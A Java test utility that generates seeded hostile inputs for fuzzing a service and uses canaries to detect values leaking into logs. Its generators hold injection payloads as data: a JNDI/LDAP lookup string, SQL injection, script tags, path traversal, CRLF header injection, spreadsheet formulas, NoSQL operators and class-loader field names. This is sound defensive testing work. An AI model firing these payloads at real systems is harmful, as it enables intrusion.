package ca.aiguillage.testing;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Seeded generators of malformed and hostile input for every door of a service: type
 * confusion, deep nesting, huge and odd Unicode strings, {@code $}-operators, CR/LF,
 * formula prefixes, truncated or non-JSON bodies, wrong content types. Every generated
 * string carries a canary ({@link #CANARY}) so that a test can prove no input value
 * reached the logs; the same seed gives the same inputs.
 */
public final class HostileInputs {

	/**
	 * What every canary looks like: matching it in captured logs finds a leaked value.
	 */
	public static final Pattern CANARY = Pattern.compile("qzv[a-z]{10}", Pattern.CASE_INSENSITIVE);

	private static final Pattern SCALAR = Pattern
		.compile("\"([A-Za-z]+)\"\\s*:\\s*(\"(?:[^\"\\\\]++|\\\\.)*+\"|-?\\d+(?:\\.\\d+)?|true|false|null)");

	private static final List<String> CONTENT_TYPES = List.of("text/plain", "*/*", "application/xml",
			"application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/json; charset=UTF-16",
			"application/json-patch+json", "application/problem+json", "text/html", "application/octet-stream");

	private final Random random;

	private final Set<String> canaries = new HashSet<>();

	/**
	 * Generators driven by one seed.
	 * @param seed print it with the results so that a failure can be replayed
	 */
	public HostileInputs(long seed) {
		this.random = new Random(seed);
	}

	/**
	 * Every canary handed out so far.
	 * @return the canaries
	 */
	public Set<String> canaries() {
		return Set.copyOf(this.canaries);
	}

	/**
	 * A fresh canary, remembered.
	 * @return a value no log line may hold
	 */
	public String canary() {
		StringBuilder canary = new StringBuilder("qzv");
		for (int i = 0; i < 10; i++) {
			canary.append((char) ('a' + this.random.nextInt(26)));
		}
		this.canaries.add(canary.toString());
		return canary.toString();
	}

	/**
	 * The canaries found in a text, such as captured logs.
	 * @param text the text
	 * @return the canaries it holds that this generator handed out
	 */
	public Set<String> leakedInto(String text) {
		Set<String> found = new HashSet<>();
		Matcher matcher = CANARY.matcher(text);
		while (matcher.find()) {
			String canary = matcher.group().toLowerCase(Locale.ROOT);
			if (this.canaries.contains(canary)) {
				found.add(canary);
			}
		}
		return found;
	}

	/**
	 * A JSON body derived from a valid one: one or more values replaced by hostile ones,
	 * or the body broken as a whole.
	 * @param valid a valid JSON document
	 * @return the hostile body
	 */
	public String jsonBody(String valid) {
		int kind = this.random.nextInt(100);
		if (kind < 70) {
			return replaceValues(valid, 1 + this.random.nextInt(3));
		}
		if (kind < 78) {
			// An extra member, an operator or a prototype-polluting name (names are no
			// personal value: no canary).
			String name = pick(List.of("$where", "$gt", "__proto__", "constructor", "@class", "class", "x-unknown"));
			return valid.replaceFirst("\\{", Matcher.quoteReplacement("{\"" + name + "\": " + jsonValue() + ", "));
		}
		if (kind < 84) {
			return valid.substring(0, this.random.nextInt(valid.length()));
		}
		if (kind < 90) {
			return nested(1 + this.random.nextInt(5_000));
		}
		if (kind < 95) {
			return pick(List.of("", "null", "[]", "\"" + canary() + "\"", "42", "true", "\uFEFF" + valid, valid + valid,
					"{\"client\": {\"client\": " + valid + "}}", "<xml>" + canary() + "</xml>",
					"client.firstName=" + canary(), valid.replace(":", "=")));
		}
		// Duplicate members: the last or the first may win, never both.
		return valid.replaceFirst("\"client\"",
				Matcher.quoteReplacement("\"client\": " + jsonValue() + ", \"client\""));
	}

	/**
	 * A content type other than {@code application/json}, or an empty string for none.
	 * @return the header's value
	 */
	public String wrongContentType() {
		return (this.random.nextInt(10) == 0) ? "" : pick(CONTENT_TYPES);
	}

	/**
	 * Whether this input goes with a wrong content type.
	 * @param percent how often, out of a hundred
	 * @return true that often
	 */
	public boolean chance(int percent) {
		return this.random.nextInt(100) < percent;
	}

	/**
	 * A form's fields with some values replaced by hostile text, some names made up and
	 * some fields repeated or indexed far out.
	 * @param valid a valid form's fields
	 * @return the hostile fields
	 */
	public Map<String, List<String>> formFields(Map<String, List<String>> valid) {
		Map<String, List<String>> fields = new LinkedHashMap<>(valid);
		List<String> names = new ArrayList<>(valid.keySet());
		int changes = 1 + this.random.nextInt(3);
		for (int i = 0; i < changes; i++) {
			int kind = this.random.nextInt(100);
			if (kind < 60) {
				fields.put(pick(names), List.of(text()));
			}
			else if (kind < 70) {
				fields.put(pick(names), List.of(text(), text(), text()));
			}
			else if (kind < 80) {
				fields.remove(pick(names));
			}
			else {
				fields.put(pick(List.of("needs.availability[" + this.random.nextInt(100_000) + "].day",
						"needs.approaches[" + this.random.nextInt(100_000) + "]", "client.languages[-1]",
						"class.module.classLoader", "client.class.name", "targetOrganizationId", "partnerReference",
						"priority", "client[firstName]", "consent.sharing.value", "$where", "x-unknown")),
						List.of(text()));
			}
		}
		return fields;
	}

	/**
	 * A hostile JSON value of any type.
	 * @return JSON text
	 */
	public String jsonValue() {
		int kind = this.random.nextInt(100);
		if (kind < 55) {
			return quoted(text());
		}
		if (kind < 65) {
			return pick(List.of("0", "-1", "1e999", "-0", "1.5", "99999999999999999999999999", "NaN", "0x10",
					"2147483648", "-9223372036854775809"));
		}
		if (kind < 72) {
			return pick(List.of("true", "false", "null", "\"true\"", "\"null\"", "\"\""));
		}
		if (kind < 82) {
			return "{\"" + pick(List.of("$gt", "$ne", "$where", "$regex", "$expr")) + "\": " + quoted(text()) + "}";
		}
		if (kind < 90) {
			return "[" + quoted(text()) + ", " + quoted(canary()) + "]";
		}
		return nested(1 + this.random.nextInt(2_000));
	}

	/**
	 * Hostile text: a canary among formula prefixes, CR/LF, control and odd Unicode
	 * characters, operators and markup, sometimes huge.
	 * @return the text
	 */
	public String text() {
		String canary = canary();
		List<Supplier<String>> kinds = List.of(() -> "=HYPERLINK(\"http://x/" + canary + "\")",
				() -> "+" + canary + "-1", () -> "-" + canary, () -> "@SUM(" + canary + ")", () -> "\t=" + canary,
				() -> "\r=" + canary, () -> canary + "\r\nSet-Cookie: x=" + canary, () -> canary + "\n2026-01-01 ERROR",
				() -> "{\"$gt\": \"" + canary + "\"}", () -> "$where:" + canary,
				() -> "${jndi:ldap://x/" + canary + "}", () -> "<script>" + canary + "</script>",
				() -> "' OR 1=1 -- " + canary, () -> "../../" + canary, () -> canary + "\u0000\u0007\u001B[31m",
				() -> "\u202E" + canary + "\u202D", () -> canary + "\u200B\u200D\uFEFF",
				() -> canary + "e\u0301\u0301\u0301\u0301", () -> canary + "\uD83D\uDE00", () -> canary + "\uD800",
				() -> canary + "\uDFFF\uD800", () -> canary + "\uFFFF\uFFFE", () -> canary + "Ｈ２Ｍ １Ｋ５",
				() -> canary + "٣٤٥", () -> canary.toUpperCase() + canary,
				() -> canary + "x".repeat(this.random.nextInt(70_000)),
				() -> canary + "é".repeat(this.random.nextInt(20_000)), () -> "   " + canary + "   ", () -> canary,
				() -> canary + "@" + canary + ".example.org", () -> "+1 514 555 " + canary, () -> "%00" + canary,
				() -> "#{" + canary + "}", () -> "*{" + canary + "}", () -> "__${" + canary + "}__::x");
		return kinds.get(this.random.nextInt(kinds.size())).get();
	}

	/**
	 * An index into a list.
	 * @param size the list's size
	 * @return a random index
	 */
	public int index(int size) {
		return this.random.nextInt(size);
	}

	/**
	 * One of the choices.
	 * @param <T> the choices' type
	 * @param choices what to pick from
	 * @return one of them
	 */
	public <T> T pick(List<T> choices) {
		return choices.get(this.random.nextInt(choices.size()));
	}

	/**
	 * A JSON string holding the text, escaped as JSON (a lone surrogate as its escape).
	 * @param text any text
	 * @return the JSON string
	 */
	public static String quoted(String text) {
		StringBuilder json = new StringBuilder("\"");
		for (char c : text.toCharArray()) {
			if (c == '"' || c == '\\') {
				json.append('\\').append(c);
			}
			else if (c < 0x20 || Character.isSurrogate(c)) {
				json.append(String.format("\\u%04x", (int) c));
			}
			else {
				json.append(c);
			}
		}
		return json.append('"').toString();
	}

	private String replaceValues(String valid, int count) {
		String body = valid;
		for (int i = 0; i < count; i++) {
			List<int[]> values = new ArrayList<>();
			Matcher matcher = SCALAR.matcher(body);
			while (matcher.find()) {
				values.add(new int[] { matcher.start(2), matcher.end(2) });
			}
			if (values.isEmpty()) {
				return body;
			}
			int[] value = pick(values);
			body = body.substring(0, value[0]) + jsonValue() + body.substring(value[1]);
		}
		return body;
	}

	private String nested(int depth) {
		boolean arrays = this.random.nextBoolean();
		String open = arrays ? "[" : "{\"a\":";
		String close = arrays ? "]" : "}";
		return open.repeat(depth) + quoted(canary()) + close.repeat(depth);
	}

}
